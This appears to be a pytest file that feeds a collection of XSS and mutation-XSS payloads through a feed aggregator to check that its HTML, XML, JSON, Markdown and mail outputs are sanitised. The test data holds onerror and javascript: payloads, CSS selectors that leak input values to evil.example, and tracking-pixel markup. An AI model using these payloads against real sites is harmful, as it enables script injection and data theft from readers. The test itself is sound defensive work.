"""Hostile markup (section X) in every text of a feed, looked for in every output as a browser would read it.

One world holds all the strings: three feeds each (RSS, Atom, JSON Feed), with the string as feed title, entry title,
summary, content, author, category and enclosure title. What is written for it is compared with what is written for a
world of harmless words: nothing but text may differ in kind.
"""

from __future__ import annotations

import html
import json
import re
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, replace
from typing import Any
from urllib.parse import urlsplit

import commonmark
import html5lib
import markdown
import mistune
import pytest
from lxml import etree
from markdown_it import MarkdownIt  # comes with rich

from aggregator.errors import ParseError
from aggregator.parse.document import parse_and_normalize
from aggregator.polling import survey
from aggregator.public import statuses
from aggregator.publish.deliver import message_id
from aggregator.publish.mail import message
from aggregator.records import Series
from aggregator.store.rows import packed
from tests.corpus import ROOT as CORPUS
from tests.corpus import needs_corpus
from tests.makers import DAY, NOW, POOL, Desk
from tests.test_html import ATTRIBUTES, ELEMENTS, faults

SHARED = CORPUS / "hostile" / "markup.json"
COLLECTED: list[str] = json.loads(SHARED.read_bytes()) if SHARED.is_file() else [""] * 38
OURS = {
    # what a browser's second parse makes of the first one's result: namespaces, raw text, comments
    "X39": [
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    ],
    "X40": [
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<svg><p><style><g title='</style><img src onerror=alert(1)>'>",
    ],
    "X41": [
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    ],
    "X42": ["<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>"],
    "X43": [
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></math>",
    ],
    "X44": ["<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"],
    "X45": [
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    ],
    "X46": [
        "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    ],
    "X47": [
        "<title><!--</title><img src=x onerror=alert(1)>-->",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    ],
    "X48": [
        "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
        "<svg><desc><iframe><s title='</iframe><img src onerror=alert(1)>'>",
    ],
    "X49": ["<table><tr><td><svg><foreignObject><table><td><img src=x onerror=alert(1)>"],
    "X50": [
        "&lt;img src=x onerror=alert(1)&gt;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "<a href='&amp;#106;avascript:alert(1)'>x</a>",
    ],
    "X51": ["<form id=document><input name=cookie></form><a id=location href=x>y</a><img name=body>"],
    "X52": [
        "<img src=/a.png srcset='javascript:alert(1) 1x, //evil.example/b 2x'><source srcset=data:text/html,x>",
    ],
    "X53": ["<a href=https://fine.example/ ping=https://evil.example/count>x</a>"],
    "X54": [
        "<button formaction=javascript:alert(1)>x</button><input type=image formaction=//evil.example src=x>",
    ],
    "X55": ["<iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src=javascript:alert(1)>"],
    "X56": ["<a xlink:href=javascript:alert(1)>x</a><svg><use xlink:href=data:image/svg+xml,x#y>"],
    "X57": [
        "<p style='background:url(//evil.example)'>x</p>",
        "<style>@import '//evil.example/x.css';</style>",
        "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
        "<div style='position:fixed;inset:0;z-index:99'>overlay</div>",
    ],
    "X58": [
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=Set-Cookie content=a=b>",
    ],
    "X59": ["<base href=javascript:alert(1)//><base target=_top href=//evil.example>"],
    "X60": [
        "<img src=https://fine.example/p.gif width=1 height=1>",
        "<img src=https://fine.example/q.gif width=0 height=0>",
    ],
    "X61": [
        "<img src=https://stats.fine.example/hit loading=eager fetchpriority=high>",
        "<link rel=prefetch href=//evil.example>",
        "<video autoplay src=https://fine.example/a.mp4>",
        "<body background=//evil.example><table background=//evil.example>",
    ],
    "X62": [
        "</p></div></article></main></section></body></html><h1>outside",
        "<div><div><table><tr><td><ul><li><b><i>never closed",
    ],
    "X63": [
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</style></script><script>alert(1)</script>",
    ],
    "X64": [
        "<!-- never closed",
        "<!--><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "<![CDATA[ never closed",
        "<?php x",
    ],
    "X65": [
        "[click](javascript:alert(1))",
        "[click](https://evil.example)",
        "<https://evil.example>",
        "[a]: javascript:alert(1)",
        "](javascript:x)",
    ],
    "X66": [
        "![x](https://evil.example/p.gif)",
        "![x][y]",
        "!\\[x](//evil.example)",
    ],
    "X67": [
        "<b>bold</b> in Markdown &amp;lt;script&amp;gt;",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ],
    "X68": [
        "`` code ``",
        "```\nfence",
        "~~~\nfence",
        "`x` ``` y",
    ],
    "X69": [
        "# heading",
        "heading\n===",
        "heading\n---",
        "> quote",
        "- list",
        "1. list",
        "***",
    ],
    "X70": [
        "a | b | c",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "a \\| b",
    ],
}
CASES = {f"X{number:02}": [text] for number, text in enumerate(COLLECTED, 1)} | OURS
ADDRESSES = {
    "href",
    "src",
    "url",
    "poster",
    "cite",
    "action",
    "formaction",
    "ping",
    "uri",
    "scheme",
    "xmlUrl",
    "htmlUrl",
}
SAFE = re.compile(r"(?:https?://|mailto:)[^\s]|(?![a-z][a-z0-9+.-]*:)(?!//)[^\x00-\x20\\]|urn:uuid:|$", re.IGNORECASE)
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]")


@dataclass(frozen=True)
class Output:
    """Everything that is written for a world: files by name, and the mail."""

    files: dict[str, bytes]
    mail: bytes

    def pages(self) -> Iterator[tuple[str, str]]:
        yield from ((name, data.decode()) for name, data in self.files.items() if name.endswith(".html"))


def documents(number: int, text: str) -> Iterator[tuple[str, bytes]]:
    """The string in every text of an RSS, an Atom and a JSON feed."""
    site, coded = f"https://case{number}.example", html.escape(text)
    raw = "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"
    yield (
        "rss",
        (
            f'<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
            f'xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>{coded}</title><link>{site}/rss/</link>'
            f"<description>{coded}</description><item><title>{coded}</title><link>{site}/rss/1</link><guid>{site}/rss/1"
            f"</guid><dc:creator>{coded}</dc:creator><category>{coded}</category><description>first {number} {coded}"
            f"</description><content:encoded>{raw}</content:encoded>"
            f'<enclosure url="{site}/a.mp3" type="{coded}" length="1"/></item></channel></rss>'
        ).encode("utf-8", "replace"),
    )
    yield (
        "atom",
        (
            f'<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">{coded}</title><id>{site}/atom</id>'
            f'<updated>2026-03-14T06:00:00Z</updated><entry><title type="html">{coded}</title><id>{site}/atom/1</id>'
            f'<link href="{site}/atom/1"/><link rel="enclosure" title="{coded}" href="{site}/b.mp3"/>'
            f"<updated>2026-03-14T06:00:00Z</updated><author><name>{coded}</name></author>"
            f'<category term="{coded}" label="{coded}"/><summary type="text">second {number} {coded}</summary>'
            f'<content type="html">{coded}</content></entry></feed>'
        ).encode("utf-8", "replace"),
    )
    item = {"id": f"{site}/json/1", "url": f"{site}/json/1", "title": text, "summary": f"third {number} {text}"}
    item |= {"content_html": text, "authors": [{"name": text, "url": text}], "tags": [text], "image": text}
    item |= {"attachments": [{"url": f"{site}/c.mp3", "mime_type": text, "title": text}]}
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": text, "home_page_url": f"{site}/", "items": [item]}
    yield "json", json.dumps(feed).encode()


Maker = Callable[[int, str], Iterable[tuple[str, bytes]]]


def written(cases: dict[str, list[str]], make: Maker = documents) -> Output:
    """What the program writes for a world of these strings."""
    numbered = enumerate(text for those in cases.values() for text in those)
    feeds = {f"https://case{n}.example/{kind}": body for n, text in numbered for kind, body in make(n, text)}
    desk = Desk(*feeds, digest=Series(read_in=None))
    states = desk.store.sources.states()
    with desk.store.transaction():
        for url, body in feeds.items():
            try:
                feed, entries = POOL.run(parse_and_normalize, body, url, None, NOW)
            except ParseError:
                continue
            desk.store.sources.save(
                replace(states[url], feed_title=feed.title, feed_link=feed.link, success_at=NOW, error=feed.title)
            )
            desk.store.entries.add(states[url], [(entry, packed(entry), "news") for entry in entries], NOW)
    desk.accept()
    desk.now += DAY
    sealed = desk.seal()
    assert sealed is not None
    rows = survey.health(desk.config, desk.store, desk.view(), desk.now)
    files = desk.files() | statuses.status_files(desk.config, desk.store, rows, desk.now)
    mail = desk.store.digests.file(sealed.key, "mail") or b""
    first = desk.all()[0].entry
    letter = message(
        sender="reader@example.org", recipient="ann@example.org", subject=first.title, name=first.title, date=NOW,
        text=b"x", html=mail, message_id=message_id("x", "ann@example.org"), list_id="list.localhost",
    )  # fmt: skip
    return Output(files | {"mail.html": mail}, bytes(letter))


@pytest.fixture(scope="module")
def hostile() -> Output:
    return written(CASES)


@pytest.fixture(scope="module")
def harmless() -> Output:
    return written({"X00": ["Plain words", "Other plain words"]})


def of_case(name: str) -> list[str]:
    """The hosts that stand for a case in the outputs."""
    before = sum(len(texts) for texts in list(CASES.values())[: list(CASES).index(name)])
    return [f"https://case{before + number}.example/" for number in range(len(CASES[name]))]


# --- what a browser makes of it ------------------------------------------------------------------------------


def tree(page: str) -> Any:
    """A page as the HTML standard's algorithm reads it."""
    return html5lib.parse(page, treebuilder="lxml", namespaceHTMLElements=False).getroot()


def kinds(page: str) -> Iterator[str]:
    """Every kind of element, attribute and address in a page, with the values that decide something."""
    for element in tree(page).iter():
        if not isinstance(element.tag, str):
            if not isinstance(element, etree._Comment):
                yield f"instruction {element}"
            continue
        yield f"<{element.tag}>"
        for name, value in element.attrib.items():
            yield f"{element.tag} {name}"
            if name in {"style", "http-equiv", "target", "rel", "type"}:
                yield f"{element.tag} {name}={value}"
            if name in ADDRESSES and not SAFE.match(value):
                yield f"{element.tag} {name} address {value!r}"


OF_CONTENT = {f"<{name}>" for name in ELEMENTS}
OF_ATTRIBUTES = re.compile(rf"[a-z0-9]+ (?:{'|'.join(sorted(ATTRIBUTES))}|rel=noopener noreferrer|type=[a-z0-9/]+)")


def strange(name: str, page: str, plain: set[str]) -> list[str]:
    """What a page holds that neither our own pages nor safe content hold."""
    found = set(kinds(page)) - plain - OF_CONTENT
    return [f"{name}: {kind}" for kind in sorted(found) if not OF_ATTRIBUTES.fullmatch(kind)]


@pytest.fixture(scope="module")
def plain(harmless: Output) -> set[str]:
    return {kind for _, page in harmless.pages() for kind in kinds(page)}


@pytest.mark.hostile(*CASES)
def test_pages_and_mail_hold_nothing_that_runs_loads_or_covers(hostile: Output, plain: set[str]) -> None:
    assert [fault for name, page in hostile.pages() for fault in strange(name, page, plain)] == []


@pytest.mark.hostile(*CASES)
def test_nothing_gets_out_of_its_place(hostile: Output, harmless: Output) -> None:
    """Each page is one whole: one body, one main, and the frame around the entries as it always is."""
    for name, page in hostile.pages():
        same = next((there for other, there in harmless.pages() if other == name), None)
        if same is not None:
            frames = [[e.tag for e in tree(p).xpath("/html/body/*")] for p in (page, same)]
            assert frames[0] == frames[1], name


@pytest.mark.hostile(*CASES)
def test_xml_outputs_are_wellformed_and_hold_safe_addresses_and_fragments(hostile: Output) -> None:
    found = []
    for name, data in hostile.files.items():
        if not name.endswith((".xml", ".opml")):
            continue
        for element in etree.fromstring(data, etree.XMLParser(resolve_entities=False, huge_tree=True)).iter():
            found += [(name, k, v) for k, v in element.attrib.items() if k in ADDRESSES and not SAFE.match(v)]
            local, text = etree.QName(element).localname, element.text or ""
            if local in {"uri", "link", "url", "comments"} and not SAFE.match(text.strip()):
                found.append((name, local, text))
            if element.get("type") == "html" or local in {"description", "encoded"}:
                found += [(name, fault, text) for fault in faults(text)]
            found += [(name, "control", text) for _ in CONTROLS.finditer(text)]
    assert found == []


def strings(value: Any, key: str = "") -> Iterator[tuple[str, str]]:
    """Every string in a JSON document, with the key that it stands under."""
    if isinstance(value, str):
        yield key, value
    inner = (
        value.items() if isinstance(value, dict) else ((key, one) for one in value) if isinstance(value, list) else ()
    )
    for name, one in inner:
        yield from strings(one, name)


@pytest.mark.hostile(*CASES)
def test_json_outputs_hold_safe_addresses_and_fragments(hostile: Output) -> None:
    documents = {name: json.loads(data) for name, data in hostile.files.items() if name.endswith(".json")}
    every = [(name, key, text) for name, document in documents.items() for key, text in strings(document)]
    links = {"url", "link", "external_url", "home_page_url", "feed_url", "image", "icon", "id", "site"}
    assert [one for one in every if one[1] in links and not SAFE.match(one[2])] == []
    assert [one for one in every if one[1] == "content_html" and faults(one[2])] == []
    assert [one for one in every if CONTROLS.search(one[2])] == []


@pytest.mark.hostile(*CASES)
@pytest.mark.parametrize(
    "render",
    [
        commonmark.commonmark,
        lambda text: markdown.markdown(text, extensions=["extra"]),
        mistune.create_markdown(plugins=["table", "strikethrough", "url"]),
        MarkdownIt("commonmark").enable("table").render,
    ],
    ids=["commonmark", "markdown", "mistune", "markdown-it"],
)
def test_the_markdown_digest_keeps_its_structure(render: Any, hostile: Output, harmless: Output) -> None:
    """No heading, list, table, quotation, code, image or markup but ours; links only to where entries are."""
    name = next(name for name in hostile.files if name.endswith(".md"))
    pages = [tree(render(output.files[name].decode())) for output in (hostile, harmless)]
    tags = [Counter(e.tag for e in page.iter() if isinstance(e.tag, str)) for page in pages]
    assert set(tags[0]) <= set(tags[1]) | {"em", "strong", "h3", "ul", "li", "a", "p", "br"}
    assert (tags[0]["h1"], tags[0]["h2"]) == (tags[1]["h1"], tags[1]["h2"])
    links = {urlsplit(a.get("href")).netloc for a in pages[0].iter("a")}
    assert {host for host in links if not re.fullmatch(r"case\d+\.example|", host)} <= {"reader.example.net"}


@pytest.mark.hostile(*CASES)
def test_the_text_digest_and_the_mail_hold_no_control_character(hostile: Output) -> None:
    texts = [data.decode() for name, data in hostile.files.items() if name.endswith((".txt", ".md"))]
    assert [CONTROLS.findall(text) for text in texts] == [[], []]
    head = hostile.mail.partition(b"\r\n\r\n")[0]
    assert max(map(len, hostile.mail.splitlines())) <= 998
    assert {line.partition(b":")[0] for line in head.splitlines() if not line.startswith(b" ")} <= {
        b"From", b"To", b"Subject", b"Date", b"Message-ID", b"List-Id", b"Auto-Submitted", b"MIME-Version",
        b"Content-Type",
    }  # fmt: skip


CASE = [
    pytest.param(name, id=name, marks=[pytest.mark.hostile(name), *([] if name in OURS else [needs_corpus])])
    for name in CASES
]


@pytest.mark.parametrize("name", CASE)
def test_a_string_is_harmless_wherever_it_stood(name: str, hostile: Output) -> None:
    """All three entries of each string are there, in every feed and the digest, and harmless."""
    texts = {output: hostile.files[output].decode() for output in ("atom.xml", "rss.xml", "feed.json")}
    entries = {item["url"]: item for item in json.loads(texts["feed.json"])["items"]}
    digest = hostile.files["digest/2026-03-15.html"].decode()
    for site in of_case(name):
        those = [url for url in entries if url.startswith(site)]
        assert those, f"{site} is in no output"
        for url in those:
            assert faults(entries[url].get("content_html", "")) == []
            assert not CONTROLS.search(json.dumps(entries[url], ensure_ascii=False))
            assert url in texts["atom.xml"]
            assert url in texts["rss.xml"]
        assert site in digest
